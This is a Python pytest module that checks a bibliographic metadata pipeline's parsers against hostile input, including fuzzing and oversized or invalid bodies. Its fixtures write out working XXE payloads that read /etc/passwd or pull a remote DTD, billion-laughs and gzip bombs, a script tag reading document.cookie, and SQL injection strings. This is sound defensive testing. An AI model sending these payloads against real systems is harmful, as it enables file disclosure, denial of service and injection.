"""Hostile input: XML bombs and external entities, oversized answers, scripts in pages,
SQL-looking text, invalid UTF-8, and fuzzed bodies for every parser.

The contract under test: every parser turns any bytes into a ParsedPayload or raises
PayloadError (never another exception, never an entity resolved, never memory blown); a bad
record is a Reject (quarantined) while the rest of its body and batch goes on.
"""

from __future__ import annotations

import gzip
import json
import re
import resource
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from lxml import etree
from sqlalchemy import Engine, inspect, select

from sources.http import FetchedResponse, ResponseTooLargeError, build_session, fetch
from sources.landing import BatchWriter
from tests.conftest import FIXTURES
from tests.faults.conftest import (
    CROSSREF,
    CROSSREF_PATH,
    crossref_page,
    crossref_pages,
    etl_runs,
    harvest_crossref,
    process,
    publication_dois,
    quarantine_rows,
    serve_pages,
)
from tests.faults.faultserver import HTML, JSON, FaultServer, Reply, streamed
from transforms.parsing import PARSERS, ParsedPayload, PayloadError, get_parser
from warehouse import schema as s
from warehouse.load import count_rows

MB = 1024 * 1024
FISH = "journals_2167-8359_works_filter_journal-article_query_fish.json"

# ------------------------------------------------------------------ XML attacks

#: (parser, fixture, kind, element whose text receives the entity reference)
XML_TARGETS = {
    "pubmed": ("pubmed/efetch_pubmed_31789841_acad_med_medical_education.xml", "efetch",
               b"<ArticleTitle>"),
    "arxiv": ("arxiv/query_id_list_1605.08386_single.xml", "atom", b"<title>"),
    "oai": ("oaipmh/zenodo_GetRecord_oai_dc_10357859.xml", "oai", b"<dc:title>"),
}
#: Parsers of HTML/JATS: they ignore DTDs (no refusal needed) but must never resolve one.
MARKUP_TARGETS = {
    "magtech": ("magtech/a2026_01_p1_seed.html", "article", b"<title>"),
}


def _laughs(depth: int = 9) -> str:
    entities = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, depth + 1)]
    return "".join(entities)


def attacks(server_url: str) -> dict[str, tuple[str, str]]:
    """name -> (internal DTD subset, text inserted in the title)."""
    blob = "A" * 50_000
    return {
        "xxe-file": ('<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;"),
        "xxe-http": (f'<!ENTITY xxe SYSTEM "{server_url}/xxe.txt">', "&xxe;"),
        "parameter-entity": (f'<!ENTITY % remote SYSTEM "{server_url}/evil.dtd"> %remote;',
                             "&exfil;"),
        "billion-laughs": (_laughs(), "&lol9;"),
        "quadratic-blowup": (f'<!ENTITY a "{blob}">', "&a;" * 20_000),
    }


def hostile(body: bytes, subset: str, anchor: bytes, inserted: str) -> bytes:
    """The body with its own prolog replaced by a DOCTYPE holding ``subset``."""
    body = re.sub(rb"^\s*(<\?xml[^>]*\?>\s*)+", b"", body)
    body = re.sub(rb"<!DOCTYPE[^>]*>\s*", b"", body, count=1)
    root = re.match(rb"\s*<([\w:]+)", body)
    assert root is not None
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ' + root.group(1) + b" [" + \
        subset.encode() + b"]>\n"
    return head + body.replace(anchor, anchor + inserted.encode(), 1)


def texts(payload: ParsedPayload) -> str:
    """Every text the parser produced (records and rejects)."""
    frame = payload.records.select(pl.col(pl.String)) if payload.records.height else None
    parts = [json.dumps(frame.to_dicts(), ensure_ascii=False)] if frame is not None else []
    parts += [r.reason + r.payload for r in payload.rejects]
    return "\n".join(parts)


def max_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def run_parser(name: str, body: bytes, kind: str) -> ParsedPayload | PayloadError:
    try:
        return get_parser(name)(body, kind=kind, url="http://127.0.0.1/hostile",
                                raw_ref="landing/hostile/00000.xml")
    except PayloadError as exc:
        return exc


#: What an expanded entity bomb leaves behind (the declarations alone are shorter).
EXPANDED = "lol" * 50
ATTACK_NAMES = ("xxe-file", "xxe-http", "parameter-entity", "billion-laughs", "quadratic-blowup")


@pytest.mark.parametrize("attack", ATTACK_NAMES)
@pytest.mark.parametrize("parser", list(XML_TARGETS))
def test_xml_entity_attacks_are_refused_never_resolved(
    parser: str, attack: str, server: FaultServer
) -> None:
    fixture, kind, anchor = XML_TARGETS[parser]
    subset, inserted = attacks(server.url)[attack]
    body = hostile((FIXTURES / fixture).read_bytes(), subset, anchor, inserted)
    before = max_rss_mb()
    outcome = run_parser(parser, body, kind)
    assert max_rss_mb() - before < 200, "entity expansion must not blow memory"
    assert server.received == [], "no external entity or DTD is ever fetched"
    if isinstance(outcome, PayloadError):
        # (an error may quote the body's first bytes: the declarations, never an expansion)
        assert "root:" not in str(outcome) and EXPANDED not in str(outcome)
        return
    produced = texts(outcome)
    assert "root:" not in produced and EXPANDED not in produced and "A" * 1000 not in produced
    assert outcome.records.height == 0 and outcome.rejects, (
        f"{parser} accepted a body declaring DTD entities ({attack}): "
        f"{outcome.records.select('title').to_series().to_list()}")


@pytest.mark.parametrize("attack", ATTACK_NAMES)
def test_markup_parsers_never_resolve_entities(attack: str, server: FaultServer) -> None:
    fixture, kind, anchor = MARKUP_TARGETS["magtech"]
    subset, inserted = attacks(server.url)[attack]
    body = hostile((FIXTURES / fixture).read_bytes(), subset, anchor, inserted)
    outcome = run_parser("magtech", body, kind)
    assert server.received == []
    if isinstance(outcome, ParsedPayload):
        produced = texts(outcome)
        assert "root:" not in produced and EXPANDED not in produced


def test_entities_inside_a_crossref_jats_abstract_stay_text(server: FaultServer) -> None:
    page = json.loads(crossref_page(FISH, None))
    page["message"]["items"][0]["abstract"] = (
        f'<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM '
        f'"{server.url}/x">]><jats:p>&xxe;&web; {_laughs()} &lol9;</jats:p>')
    outcome = run_parser("crossref", json.dumps(page).encode(), "works")
    assert isinstance(outcome, ParsedPayload) and outcome.records.height == 20
    assert server.received == []
    assert "root:" not in texts(outcome) and EXPANDED not in texts(outcome)


# ---------------------------------------------------------------- oversized bodies


def test_a_declared_length_over_the_cap_is_refused_before_reading(server: FaultServer) -> None:
    server.route("/big", Reply(200, b"{}", JSON, declared_length=5 * MB))
    with pytest.raises(ResponseTooLargeError, match="declares 5242880 bytes, over the cap"):
        fetch(build_session(), f"{server.url}/big", max_bytes=MB, sleep=lambda _s: None)
    assert len(server.requests_to("/big")) == 1, "a too-large answer is not retried"


def test_a_streamed_body_is_cut_off_at_the_cap(server: FaultServer) -> None:
    server.route("/stream", streamed(b"x" * (8 * MB)))
    before = max_rss_mb()
    with pytest.raises(ResponseTooLargeError, match="exceeded the cap of 1048576 bytes"):
        fetch(build_session(), f"{server.url}/stream", max_bytes=MB, sleep=lambda _s: None)
    assert max_rss_mb() - before < 100
    assert len(server.requests_to("/stream")) == 1


def test_a_gzip_bomb_is_cut_off_at_the_cap(server: FaultServer) -> None:
    bomb = gzip.compress(b"\0" * (200 * MB), compresslevel=9)
    assert len(bomb) < MB
    server.route("/bomb", Reply(200, bomb, JSON, {"Content-Encoding": "gzip"}))
    before = max_rss_mb()
    with pytest.raises(ResponseTooLargeError):
        fetch(build_session(), f"{server.url}/bomb", max_bytes=4 * MB, sleep=lambda _s: None)
    assert max_rss_mb() - before < 150, "the bomb is never inflated in full"


def test_an_oversized_crossref_page_stops_the_harvest_with_nothing_complete(
    server: FaultServer, data_dir: Path, sqlite_engine: Engine
) -> None:
    pages = crossref_pages()
    huge = Reply(200, pages.bodies[1][:100], JSON, declared_length=64 * MB + 1)
    serve_pages(server, CROSSREF_PATH, pages, faults={1: [huge]}, then=huge)
    with pytest.raises(ResponseTooLargeError, match="over the cap of 67108864"):
        harvest_crossref(server, data_dir)
    assert len([r for r in server.received if r.query["cursor"] == pages.cursors[1]]) == 1
    assert etl_runs(sqlite_engine) == []


# ------------------------------------------------------------- scripts in pages

SEED_PAGE = FIXTURES / "magtech" / "a2026_01_p1_seed.html"
SEED_TITLE = ("Application progress and future trends of artificial intelligence in medical "
              "education")
PAYLOAD_MARK = "PWNED"
SCRIPT = f"<script>alert('{PAYLOAD_MARK}');document.cookie</script>"
STYLE = f"<style>.{PAYLOAD_MARK}{{display:none}}</style>"


def _escaped(html: str) -> str:
    return html.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(
        '"', "&quot;")


def _seed_with(**replacements: str) -> bytes:
    page = SEED_PAGE.read_text(encoding="utf-8")
    for old, new in replacements.items():
        assert old in page
        page = page.replace(old, new, 1)
    return page.encode("utf-8")


SCRIPT_PAGES = {
    "escaped-script-in-title-meta": _seed_with(**{
        f'content="{SEED_TITLE}"': f'content="{_escaped(SCRIPT)}{SEED_TITLE}"'}),
    "escaped-style-in-title-meta": _seed_with(**{
        f'content="{SEED_TITLE}"': f'content="{SEED_TITLE}{_escaped(STYLE)}"'}),
    "escaped-script-in-abstract-meta": _seed_with(**{
        'content="Medical education, as a critical': f'content="{_escaped(SCRIPT)}Medical '
                                                     'education, as a critical'}),
    "script-blocks-in-body": _seed_with(**{
        "<body>": f"<body>{SCRIPT}{STYLE}<noscript>{PAYLOAD_MARK}</noscript>",
        "</head>": f"{SCRIPT}</head>"}),
}


@pytest.mark.parametrize("case", list(SCRIPT_PAGES))
def test_no_script_text_leaks_from_a_magtech_page(case: str) -> None:
    outcome = run_parser("magtech", SCRIPT_PAGES[case], "article")
    assert isinstance(outcome, ParsedPayload) and outcome.records.height == 1
    row = outcome.records.row(0, named=True)
    for field in ("title", "title_zh", "abstract", "abstract_zh", "section", "journal_title"):
        value = row[field] or ""
        assert PAYLOAD_MARK not in value and "alert(" not in value and "<script" not in value, (
            f"{field}: {value[:160]!r}")
    assert row["title"].endswith(SEED_TITLE[-20:]) or row["title"].startswith(SEED_TITLE[:20])


def test_no_script_text_leaks_from_crossref_titles_and_abstracts() -> None:
    page = json.loads(crossref_page(FISH, None))
    item = page["message"]["items"][0]
    item["title"] = [f"{SCRIPT}Real title {STYLE}"]
    item["abstract"] = f"<jats:p>{SCRIPT}Real abstract.{STYLE}</jats:p>"
    outcome = run_parser("crossref", json.dumps(page).encode(), "works")
    assert isinstance(outcome, ParsedPayload)
    row = outcome.records.row(0, named=True)
    for field in ("title", "abstract"):
        assert PAYLOAD_MARK not in (row[field] or "") and "alert(" not in (row[field] or "")


# ------------------------------------------------------------- SQL-looking text

SQLISH = {
    "title": "Robert'); DROP TABLE publications;--",
    "author": "O'Brien\"; DELETE FROM authors; --",
    "abstract": "' OR '1'='1'; UPDATE publications SET title = NULL; --",
    "keyword": "1; DROP TABLE keywords",
}


#: A real Crossref deep-paging cursor (about 1,400 characters): page URLs are long.
LONG_CURSOR = json.loads((CROSSREF / "works_list_cursor_page1_query_widget.json").read_bytes()
                         )["message"]["next-cursor"]


def land(data_dir: Path, bodies: list[tuple[bytes, str]], source: str = "crossref") -> Path:
    """Land bodies as one batch without the network (as a replayed batch would be).

    Their URLs are Crossref page URLs with a real cursor, as a harvest lands them.
    """
    with BatchWriter(data_dir, source) as writer:
        for i, (body, content_type) in enumerate(bodies):
            writer.add(FetchedResponse(
                url=f"http://127.0.0.1{CROSSREF_PATH}?rows=20&cursor={LONG_CURSOR}&page={i}",
                status=200,
                headers={"Content-Type": content_type}, body=body,
                fetched_at=datetime.now(UTC), kind="works"))
    return writer.path


def test_sql_looking_strings_load_verbatim_and_every_table_survives(
    warehouse_engine: Engine, data_dir: Path
) -> None:
    page = json.loads(crossref_page(FISH, None))
    item = page["message"]["items"][0]
    item["title"] = [SQLISH["title"]]
    item["abstract"] = f"<jats:p>{SQLISH['abstract']}</jats:p>"
    item["author"][0]["family"] = SQLISH["author"]
    item["subject"] = [SQLISH["keyword"]]
    tables_before = set(inspect(warehouse_engine).get_table_names())
    result = process(land(data_dir, [(json.dumps(page).encode(), JSON)]), data_dir,
                     warehouse_engine).result
    assert result.is_reconciled and result.loaded == 20
    assert set(inspect(warehouse_engine).get_table_names()) == tables_before
    counts = count_rows(warehouse_engine)
    assert counts["publications"] == 20 and counts["authors"] > 0
    doi = item["DOI"].lower()
    with warehouse_engine.connect() as conn:
        stored = conn.execute(select(s.publications.c.title, s.publications.c.abstract)
                              .where(s.publications.c.doi == doi)).one()
        names = conn.execute(select(s.authors.c.name)).scalars().all()
        assert conn.execute(select(s.publications.c.title).where(
            s.publications.c.title.is_(None))).all() == []
    assert stored.title == SQLISH["title"]
    assert stored.abstract == SQLISH["abstract"]
    assert any(SQLISH["author"] in (n or "") for n in names)


def test_unicode_line_separators_inside_values_do_not_split_records(
    warehouse_engine: Engine, data_dir: Path
) -> None:
    """U+2028, U+2029 and U+0085 are raw in JSON lines: records must not break at them."""
    page = json.loads(crossref_page(FISH, None))
    item = page["message"]["items"][0]
    item["author"][0]["family"] = "Line\u2028Separator"
    item["author"][0]["affiliation"] = [{"name": "Next\x85Line\u2029Institute"}]
    item["subject"] = ["keyword\u2028with a break"]
    result = process(land(data_dir, [(json.dumps(page).encode(), JSON)]), data_dir,
                     warehouse_engine).result
    assert result.is_reconciled and result.loaded == 20 and result.quarantined == 0
    with warehouse_engine.connect() as conn:
        names = conn.execute(select(s.authors.c.name)).scalars().all()
        affiliations = conn.execute(select(s.publication_authors.c.affiliation)).scalars().all()
        records = conn.execute(select(s.source_records.c.record)).scalars().all()
    assert any("Line\u2028Separator" in (n or "") for n in names)
    assert "Next\x85Line\u2029Institute" in affiliations
    assert len(records) == 20 and all(json.loads(r)["source"] == "crossref" for r in records)


# ------------------------------------------------------------------ bad records

BROKEN_ITEMS = {
    3: {"title": 42},
    5: {"DOI": ["10.1/not-a-string"]},
    7: {"issued": "yesterday", "published": {"date-parts": "x"}},
    9: {"author": "not a list"},
    11: {"title": [], "subtitle": []},
    13: {"ISSN": [None, 7], "container-title": {"a": 1}},
}


def test_bad_records_and_bodies_are_quarantined_while_the_batch_goes_on(
    warehouse_engine: Engine, data_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    page = json.loads(crossref_page(FISH, None))
    for position, fields in BROKEN_ITEMS.items():
        page["message"]["items"][position].update(fields)
    good = json.dumps(page).encode()
    batch = land(data_dir, [
        (good, JSON),
        (crossref_page("journals_1803-2427_works.json", None).replace(b'"', b'\xff"', 3), JSON),
        (b"<html><body><h1>502 Bad Gateway</h1></body></html>", HTML),
        (crossref_page("works_list_publisher_UFSM_portuguese_jats.json", None), JSON),
    ])
    outcome = process(batch, data_dir, warehouse_engine)
    result = outcome.result
    assert result.is_reconciled, vars(result)
    assert result.fetched == result.loaded + result.duplicates + result.quarantined
    assert result.loaded >= 20 + 20 - len(BROKEN_ITEMS), "the good works of both pages load"

    with warehouse_engine.connect() as conn:
        loaded_refs = set(conn.execute(select(s.source_records.c.raw_ref)).scalars())
    quarantined = quarantine_rows(warehouse_engine)
    assert all(q.reason for q in quarantined)
    quarantined_refs = {q.raw_ref for q in quarantined}
    for position in range(20):  # every work of the first page: loaded xor quarantined
        ref = next((r for r in loaded_refs | quarantined_refs
                    if r and r.endswith(f"00000.json#{position}")), None)
        assert ref is not None, f"work #{position} was lost"
        assert not (ref in loaded_refs and ref in quarantined_refs)
    bodies = {q.raw_ref.rsplit("/", 1)[-1] for q in quarantined if q.stage == "parse"}
    assert {"00001.json", "00002.html"} <= bodies, "unreadable bodies are quarantined whole"
    (run,) = etl_runs(warehouse_engine)
    assert run.status == "succeeded" and run.quarantined == result.quarantined > 0
    assert "cannot parse" in caplog.text


def test_a_lone_surrogate_in_a_crossref_work_is_a_reject_not_a_crash(
    sqlite_engine: Engine, data_dir: Path
) -> None:
    """``"\\ud800"`` is valid JSON syntax but not Unicode; one such work must not sink the page."""
    page = json.loads(crossref_page(FISH, None))
    page["message"]["items"][2]["title"] = ["Broken \ud800 title"]
    body = json.dumps(page).encode()  # ensure_ascii: the surrogate travels as an escape
    assert b"\\ud800" in body
    outcome = run_parser("crossref", body, "works")
    assert isinstance(outcome, ParsedPayload)
    assert outcome.records.height == 19 and len(outcome.rejects) == 1
    result = process(land(data_dir, [(body, JSON)]), data_dir, sqlite_engine).result
    assert result.is_reconciled and (result.loaded, result.quarantined) == (19, 1)


def test_a_lone_surrogate_in_an_openalex_work_is_a_reject_not_a_crash() -> None:
    data = json.loads((FIXTURES / "openalex/works_list_filter_openalex_ids_cursor_page1.json")
                      .read_bytes())
    data["results"][0]["title"] = data["results"][0]["display_name"] = "X \udfff Y"
    outcome = run_parser("openalex", json.dumps(data).encode(), "works")
    assert isinstance(outcome, ParsedPayload)
    assert outcome.records.height == 1 and len(outcome.rejects) == 1


def test_over_long_values_do_not_sink_the_batch_on_any_backend(
    warehouse_engine: Engine, data_dir: Path
) -> None:
    """Columns have lengths on PostgreSQL (volume 32, pages 64, DOI 255): one over-long value
    is a bad record (quarantined, or loaded in full), never a failed batch."""
    page = json.loads(crossref_page(FISH, None))
    items = page["message"]["items"]
    items[3]["volume"] = "Supplement 2: Proceedings of the 12th International Conference " * 2
    items[4]["page"] = "e1-" + "9" * 120
    items[5]["DOI"] = "10.7717/" + "x" * 300
    long_values = {items[3]["DOI"].lower(), items[4]["DOI"].lower(), items[5]["DOI"].lower()}
    batch = land(data_dir, [(json.dumps(page).encode(), JSON)])
    result = process(batch, data_dir, warehouse_engine).result
    assert result.is_reconciled and result.loaded + result.quarantined == 20
    dois = set(publication_dois(warehouse_engine))
    assert len(dois - long_values) == 17, "the other 17 works load"
    quarantined = {q.raw_ref.rsplit("#", 1)[-1] for q in quarantine_rows(warehouse_engine)}
    for position in (3, 4, 5):  # each over-long work: loaded in full xor quarantined
        loaded = items[position]["DOI"].lower() in dois
        assert loaded != (str(position) in quarantined), position
    assert [r.status for r in etl_runs(warehouse_engine)] == ["succeeded"]


# ------------------------------------------------------------------ invalid UTF-8

BAD_BYTES = {
    "0xff": b"\xff\xfe",
    "overlong-slash": b"\xc0\xaf",
    "encoded-surrogate": b"\xed\xa0\x80",
    "stray-continuation": b"\x80\x81",
    "truncated-sequence": b"\xe4\xb8",
}
UTF8_TARGETS = {
    "crossref": (f"crossref/{FISH}", "works", b'"title":["'),
    "openalex": ("openalex/works_list_filter_openalex_ids_cursor_page1.json", "works",
                 b'"title": "'),
    "pubmed": ("pubmed/efetch_pubmed_31789841_acad_med_medical_education.xml", "efetch",
               b"<ArticleTitle>"),
    "arxiv": ("arxiv/query_id_list_1605.08386_single.xml", "atom", b"<title>"),
    "oai": ("oaipmh/zenodo_GetRecord_oai_dc_10357859.xml", "oai", b"<dc:title>"),
    "magtech": ("magtech/a2026_01_p1_seed.html", "article", b'content="Application'),
    "files": ("files/records.ris", "auto", b"TI  - "),
}


def assert_contract(outcome: ParsedPayload | PayloadError) -> None:
    """A payload whose records hold only valid Unicode (or a PayloadError)."""
    if isinstance(outcome, PayloadError):
        return
    assert isinstance(outcome, ParsedPayload)
    assert isinstance(outcome.records, pl.DataFrame)
    for value in outcome.records.select(pl.col(pl.String)).iter_rows():
        for text in value:
            if text is not None:
                text.encode("utf-8")  # no lone surrogates reach the warehouse


@pytest.mark.parametrize("bad", list(BAD_BYTES))
@pytest.mark.parametrize("parser", list(UTF8_TARGETS))
def test_invalid_utf8_is_rejected_or_refused_never_a_crash(parser: str, bad: str) -> None:
    fixture, kind, anchor = UTF8_TARGETS[parser]
    body = (FIXTURES / fixture).read_bytes()
    if anchor not in body:
        anchor = anchor.replace(b'":["', b'": ["').replace(b'": "', b'":"')
    assert anchor in body, (parser, anchor)
    outcome = run_parser(parser, body.replace(anchor, anchor + BAD_BYTES[bad], 1), kind)
    assert_contract(outcome)
    if isinstance(outcome, ParsedPayload) and outcome.records.height:
        titles = " ".join(t or "" for t in outcome.records.get_column("title").to_list())
        assert "\ufffd" not in titles or outcome.rejects, f"{parser} stored U+FFFD: {titles!r}"


# ---------------------------------------------------------------------- fuzzing

# No "explain" phase: on CPython 3.11.7 it can leave the AST recursion counter skewed, and
# pytest then dies (INTERNALERROR) formatting a later failure's traceback.
FUZZ = settings(max_examples=120, deadline=None, derandomize=True, database=None,
                phases=[Phase.explicit, Phase.reuse, Phase.generate, Phase.shrink],
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                       HealthCheck.function_scoped_fixture])
KINDS = {"magtech": "article", "crossref": "works", "openalex": "works", "pubmed": "efetch",
         "arxiv": "atom", "oai": "oai", "files": "auto"}
SEEDS = {
    "magtech": ["magtech/a2026_01_p8_chatgpt_entities.html", "magtech/not_found_404.html",
                "magtech/a2025_12_p1132_pbl_nometa.html"],
    "crossref": ["crossref/works_list_query_ecology_rows2_plain_abstract.json",
                 "crossref/works_single_10.3892_ijo_00000353_sparse_metadata.json",
                 "crossref/error_404_works_bad_cursor.json"],
    "openalex": ["openalex/works_single_W4234567890_null_title_language_ng.json",
                 "openalex/works_list_per_page1_select_ids_count.json",
                 "openalex/works_list_cursor_last_page_empty_results.json"],
    "pubmed": ["pubmed/efetch_pubmed_2articles_season_pubdate_compact.xml",
               "pubmed/efetch_pubmed_37909814_empty_articleset.xml"],
    "arxiv": ["arxiv/query_id_list_two_ids_one_missing.xml",
              "arxiv/error_400_query_id_list_abc_incorrect_id_format.xml"],
    "oai": ["oaipmh/zenodo_GetRecord_oai_dc_10357859.xml",
            "oaipmh/zenodo_error_422_noRecordsMatch.xml"],
    "files": ["files/records.ris", "files/records.nbib", "files/wos_records.txt",
              "files/records.bib"],
}
SEED_BYTES = {name: [(FIXTURES / f).read_bytes() for f in files] for name, files in SEEDS.items()}
NASTY = [b"\xff", b"\xed\xa0\x80", b"&#xD800;", b"\\ud800", b"\x00", b"<!ENTITY x 'y'>", b"&x;",
         b"<script>", b"]]>", b"<![CDATA[", b'"', b"<", b"&", b"{", b"[", b"null", b"1e999",
         b"-0", b"\r\n", b"\xe2\x80\xae", b"</html>", b"<meta name=citation_title content=x>",
         b"TY  - JOUR\n", b"ER  - \n"]


@st.composite
def mutated(draw: st.DrawFn, seeds: list[bytes]) -> bytes:
    """A real body with a few random edits (flips, inserts, deletions, truncation)."""
    body = bytearray(draw(st.sampled_from(seeds)))
    for _ in range(draw(st.integers(1, 6))):
        op = draw(st.sampled_from(["flip", "insert", "delete", "truncate", "repeat"]))
        pos = draw(st.integers(0, max(len(body) - 1, 0)))
        if op == "flip" and body:
            body[pos] = draw(st.integers(0, 255))
        elif op == "insert":
            body[pos:pos] = draw(st.sampled_from(NASTY) | st.binary(min_size=1, max_size=12))
        elif op == "delete":
            del body[pos:pos + draw(st.integers(1, 64))]
        elif op == "truncate":
            del body[pos:]
        else:
            body[pos:pos] = body[pos:pos + draw(st.integers(1, 200))]
    return bytes(body)


def _fuzz_body(parser: str, body: bytes) -> None:
    assert_contract(run_parser(parser, body, KINDS[parser]))


@pytest.mark.parametrize("parser", sorted(PARSERS))
def test_fuzz_any_bytes_give_a_payload_or_a_payload_error(parser: str) -> None:
    @FUZZ
    @given(body=st.binary(max_size=600) | mutated(SEED_BYTES[parser]))
    def check(body: bytes) -> None:
        _fuzz_body(parser, body)

    check()


#: Any JSON value; text includes lone surrogates (json.dumps sends them as ``\ud800`` escapes).
#: (st.text never yields a lone surrogate, so the characters are joined by hand.)
JSON_TEXT = st.lists(st.characters(exclude_categories=()) | st.sampled_from(
    ["\ud800", "\udfff", "\x00", "\ufffd", "<", "&", "\u202e"]), max_size=30).map("".join)
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | JSON_TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(JSON_TEXT, inner, max_size=4),
    max_leaves=10)
CROSSREF_KEYS = ["DOI", "title", "subtitle", "author", "issued", "published", "published-print",
                 "published-online", "ISSN", "issn-type", "container-title", "abstract",
                 "language", "volume", "issue", "page", "subject", "type", "URL", "created"]
OPENALEX_KEYS = ["id", "doi", "title", "display_name", "authorships", "publication_date",
                 "publication_year", "primary_location", "abstract_inverted_index", "biblio",
                 "language", "ids", "keywords", "topics", "type", "locations"]


def _string_leaves(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(value, str):
        return [path]
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in _string_leaves(v, (*path, k))]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in _string_leaves(v, (*path, i))]
    return []


def _fuzzed_item(draw: st.DrawFn, item: dict[str, Any], keys: list[str]) -> dict[str, Any]:
    """A real work with fields replaced by any JSON, dropped, or with a text rewritten."""
    item = json.loads(json.dumps(item))
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["replace", "drop", "text"]))
        if op == "text":
            leaves = [p for p in _string_leaves(item) if p[0] in keys]  # fields parsers read
            if not leaves:
                continue
            *parents, last = draw(st.sampled_from(leaves))
            target: Any = item
            for step in parents:
                target = target[step]
            target[last] = draw(JSON_TEXT)
            continue
        key = draw(st.sampled_from(keys))
        if op == "replace":
            item[key] = draw(JSON_VALUES)
        else:
            item.pop(key, None)
    return item


CROSSREF_PAGE = json.loads(crossref_page(FISH, None))
OPENALEX_PAGE = json.loads((FIXTURES / "openalex/works_list_filter_openalex_ids_cursor_page1"
                                       ".json").read_bytes())


def test_fuzz_a_bad_crossref_work_is_rejected_and_the_rest_of_the_page_goes_on() -> None:
    good = CROSSREF_PAGE["message"]["items"][0]

    @FUZZ
    @given(data=st.data())
    def check(data: st.DataObject) -> None:
        bad = _fuzzed_item(data.draw, CROSSREF_PAGE["message"]["items"][1], CROSSREF_KEYS)
        page = {**CROSSREF_PAGE, "message": {**CROSSREF_PAGE["message"], "items": [bad, good]}}
        outcome = run_parser("crossref", json.dumps(page).encode(), "works")
        assert isinstance(outcome, ParsedPayload), outcome
        assert_contract(outcome)
        assert good["DOI"].lower() in outcome.records.get_column("doi").to_list()
        assert outcome.records.height + len(outcome.rejects) == 2

    check()


def test_fuzz_a_bad_openalex_work_is_rejected_and_the_rest_of_the_page_goes_on() -> None:
    good, template = OPENALEX_PAGE["results"]

    @FUZZ
    @given(data=st.data())
    def check(data: st.DataObject) -> None:
        bad = _fuzzed_item(data.draw, template, OPENALEX_KEYS)
        page = {**OPENALEX_PAGE, "results": [bad, good]}
        outcome = run_parser("openalex", json.dumps(page).encode(), "works")
        assert isinstance(outcome, ParsedPayload), outcome
        assert_contract(outcome)
        assert good["id"].rsplit("/", 1)[-1] in outcome.records.get_column("source_id").to_list()
        assert outcome.records.height + len(outcome.rejects) == 2

    check()


#: Text lxml accepts in an element (XML 1.0 characters, no surrogates).
XML_TEXT = st.text(alphabet=st.characters(
    exclude_categories=("Cs",),
    exclude_characters="".join(chr(c) for c in [*range(0, 9), 11, 12, *range(14, 32)])
    + "\ufffe\uffff"), max_size=40)
#: parser -> (fixture with several records, tag of one record)
XML_RECORDS = {
    "pubmed": ("pubmed/efetch_pubmed_2articles_season_pubdate_compact.xml", "PubmedArticle"),
    "arxiv": ("arxiv/query_search_testing_start0_max10_page1.xml",
              "{http://www.w3.org/2005/Atom}entry"),
    "oai": ("oaipmh/zenodo_ListRecords_oai_dc_page1_resumptionToken.xml",
            "{http://www.openarchives.org/OAI/2.0/}record"),
}


@pytest.mark.parametrize("parser", list(XML_RECORDS))
def test_fuzz_a_bad_xml_record_is_rejected_and_the_rest_goes_on(parser: str) -> None:
    fixture, record_tag = XML_RECORDS[parser]
    source = (FIXTURES / fixture).read_bytes()
    clean = run_parser(parser, source, KINDS[parser])
    assert isinstance(clean, ParsedPayload) and clean.records.height >= 2
    first_id = clean.records.get_column("source_id").to_list()[0]

    @FUZZ
    @given(data=st.data())
    def check(data: st.DataObject) -> None:
        root = etree.fromstring(source)
        victim = list(root.iter(record_tag))[-1]  # the first record must survive
        elements = list(victim.iter())
        for _ in range(data.draw(st.integers(1, 5))):
            element = data.draw(st.sampled_from(elements))
            op = data.draw(st.sampled_from(["text", "drop", "attr", "copy"]))
            if op == "text":
                element.text = data.draw(XML_TEXT)
            elif op == "drop" and element is not victim and element.getparent() is not None:
                element.getparent().remove(element)
                elements = list(victim.iter())
            elif op == "attr":
                element.set(data.draw(st.sampled_from(["Version", "ValidYN", "DateType",
                                                       "term", "href", "lang"])),
                            data.draw(XML_TEXT))
            elif op == "copy" and element.getparent() is not None:
                element.getparent().append(etree.fromstring(etree.tostring(element)))
        body = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
        outcome = run_parser(parser, body, KINDS[parser])
        assert isinstance(outcome, ParsedPayload), outcome
        assert_contract(outcome)
        assert first_id in outcome.records.get_column("source_id").to_list()

    check()


def test_fuzz_magtech_meta_values() -> None:
    page = (FIXTURES / "magtech/a2026_01_p8_chatgpt_entities.html").read_text(encoding="utf-8")
    metas = re.findall(r'<meta name="([^"]+)" content="[^"]*"', page)

    @FUZZ
    @given(data=st.data())
    def check(data: st.DataObject) -> None:
        text = page
        for name in data.draw(st.lists(st.sampled_from(metas), min_size=1, max_size=5)):
            value = data.draw(st.text(max_size=60)).replace("&", "&amp;").replace('"', "&quot;")
            text = re.sub(rf'(<meta name="{re.escape(name)}" content=")[^"]*"',
                          lambda m, v=value: m.group(1) + v + '"', text, count=1)
        assert_contract(run_parser("magtech", text.encode("utf-8"), "article"))

    check()


def test_the_fuzzing_covers_every_registered_parser() -> None:
    assert set(SEEDS) == set(PARSERS) == set(KINDS)
